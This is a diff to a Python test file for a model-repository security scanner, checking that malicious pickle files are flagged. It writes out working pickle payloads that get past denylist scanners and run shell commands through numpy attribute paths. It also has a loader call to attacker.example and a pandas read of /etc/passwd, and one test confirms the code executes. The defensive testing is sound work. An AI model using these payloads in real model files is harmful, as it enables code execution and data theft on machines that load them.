@@ -155,16 +155,107 @@ def test_classification_of_common_imports():
                          ("shutil", "rmtree"), ("pty", "spawn"), ("webbrowser", "open"), ("importlib", "import_module"),
                          ("torch.serialization", "load"), ("builtins", "__import__"), ("functools", "partial")]:
         assert classify(module, name) == "dangerous", (module, name)
-    assert classify("transformers.training_args", "TrainingArguments") == "unknown"
+    for module, name in [("numpy", "__builtins__"), ("numpy", "core._internal.sys.modules"), ("numpy", "prod.os.system"),
+                         ("torch", "__class__")]:
+        assert classify(module, name) == "dangerous", (module, name)
+    assert classify("transformers.training_args", "TrainingArguments") == "known"
+    assert classify("torch.nn.modules.linear", "Linear") == "known"
+    assert classify("__builtin__", "set") == "safe"  # protocol 2 names builtins so
+    for module, name in [("pandas", "read_csv"), ("mlflow.pyfunc", "load_model"), ("zlib", "decompress"),
+                         ("timm.models", "load_checkpoint"), ("numpy", "size"), ("__main__", "Payload")]:
+        assert classify(module, name) == "unlisted", (module, name)
 
 
-def test_unknown_imports_are_a_warning(tmp_path):
+def _assemble(*ops: bytes) -> bytes:
+    return b"\x80\x04" + b"".join(ops) + b"."
+
+
+def bypass_payloads(command: str) -> dict[str, bytes]:
+    """Real payloads that denylist scanners (modelscan #330, #89, #338) let through, running `command`."""
+    return {
+        # numpy.size(numpy.size, 'eval') after BUILD set numpy.size.shape = numpy.__builtins__ (modelscan #330)
+        "numpy_builtins.pkl": _assemble(
+            _short("numpy"), _short("size"), b"\x93\x94\x94", _short("numpy"), _short("__builtins__"), b"\x93\x94\x94",
+            b"h\x01}}", _short("shape"), b"h\x03s\x86b", b"h\x01h\x01", _short("eval"), b"\x86R",
+            _short(f"__import__('os').system({command!r})"), b"\x85R",
+        ),
+        # numpy + "lib._datasource.os.system": pickle walks attributes from a harmless module to os (modelscan #89)
+        "attribute_path.pkl": _assemble(_short("numpy"), _short("lib._datasource.os.system"), b"\x93",
+                                        _short(command), b"\x85R"),
+        # a library loader is not "dangerous" to a denylist, but fetches and runs a model (mlflow, timm)
+        "mlflow.pkl": _assemble(_short("mlflow.pyfunc"), _short("load_model"), b"\x93",
+                                _short("https://attacker.example/model"), b"\x85R"),
+        "timm.pth": _assemble(_short("timm.models"), _short("load_checkpoint"), b"\x93", b"N", _short("/tmp/x"), b"\x86R"),
+        # exfiltration: pandas reads any file or URL
+        "read_csv.pkl": _assemble(_short("pandas"), _short("read_csv"), b"\x93", _short("/etc/passwd"), b"\x85R"),
+    }
+
+
+def test_bypass_payloads_are_real(tmp_path):
+    """The attribute-path payload does run when unpickled (in a child process).
+
+    (The numpy.__builtins__ one needs numpy < 2, whose np.size indexed a.shape[axis]
+    without normalizing the axis; it is checked for detection only.)
+    """
+    import subprocess
+    import sys
+
+    for name in ("attribute_path.pkl",):
+        marker = tmp_path / f"{name}.ran"
+        (tmp_path / name).write_bytes(bypass_payloads(f"touch {marker}")[name])
+        subprocess.run([sys.executable, "-c", f"import pickle; pickle.load(open({str(tmp_path / name)!r}, 'rb'))"],
+                       capture_output=True, timeout=120)
+        assert marker.exists(), name
+
+
+def test_bypass_payloads_are_errors_and_never_run(tmp_path):
+    sentinel = tmp_path / "BYPASS-RAN"
+    for name, data in bypass_payloads(f"touch {sentinel}").items():
+        (tmp_path / name).write_bytes(data)
+    found, internal = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
+    assert not internal
+    by_file = {f.file: f for f in found}
+    assert set(by_file) == set(bypass_payloads("x")) and all(str(f.severity) == "error" for f in found)
+    builtins_message = by_file["numpy_builtins.pkl"].message
+    assert "runs code" in builtins_message and "numpy.__builtins__" in builtins_message
+    assert "numpy.size(numpy.size, 'eval')" in builtins_message and "system" in builtins_message
+    assert "set attributes of numpy.size" in builtins_message
+    assert "numpy.lib._datasource.os.system" in by_file["attribute_path.pkl"].message
+    assert "mlflow.pyfunc.load_model('https://attacker.example/model',)" in by_file["mlflow.pkl"].message
+    assert "pandas.read_csv('/etc/passwd',)" in by_file["read_csv.pkl"].message
+    assert "never needs" in by_file["timm.pth"].message
+    report, proc = check_json(tmp_path, "--select", "SEC")
+    assert proc.returncode == 1 and len(report["findings"]) == 5
+    assert not sentinel.exists()
+
+
+def test_training_state_is_a_warning(tmp_path):
     import argparse
 
-    (tmp_path / "training_args.bin").write_bytes(pickle.dumps(argparse.Namespace(lr=1e-5), protocol=4))
+    import torch
+    from transformers import TrainingArguments
+
+    (tmp_path / "args.bin").write_bytes(pickle.dumps(argparse.Namespace(lr=1e-5), protocol=4))
+    # What Trainer really writes: torch.save(TrainingArguments) into training_args.bin.
+    # (Built without __init__, which wants accelerate; the pickle is the same NEWOBJ + BUILD.)
+    args = TrainingArguments.__new__(TrainingArguments)
+    args.__dict__.update(output_dir="out", learning_rate=1e-5)
+    torch.save(args, tmp_path / "training_args.bin")
+    torch.save(torch.nn.Linear(2, 2), tmp_path / "layer.pt")
     found, _ = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
-    assert [(f.rule, str(f.severity)) for f in found] == [("unsafe-pickle", "warning")]
-    assert "argparse.Namespace" in found[0].message and "weights_only" in found[0].message
+    assert sorted((f.file, f.rule, str(f.severity)) for f in found) == [
+        ("args.bin", "unsafe-pickle", "warning"), ("layer.pt", "unsafe-pickle", "warning"),
+        ("training_args.bin", "unsafe-pickle", "warning")], [f.message for f in found]
+    by_file = {f.file: f.message for f in found}
+    assert "argparse.Namespace" in by_file["args.bin"] and "weights_only" in by_file["args.bin"]
+    assert "transformers.training_args.TrainingArguments" in by_file["training_args.bin"]
+    assert "torch.nn.modules.linear.Linear" in by_file["layer.pt"]
+
+
+def test_protocol_2_builtins_are_safe(tmp_path):
+    (tmp_path / "state.pkl").write_bytes(pickle.dumps({"ids": {1, 2}, "raw": b"ab"}, protocol=2))
+    found, _ = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
+    assert not found, [f.message for f in found]
 
 
 def test_not_a_pickle_and_hostile_lengths(tmp_path):
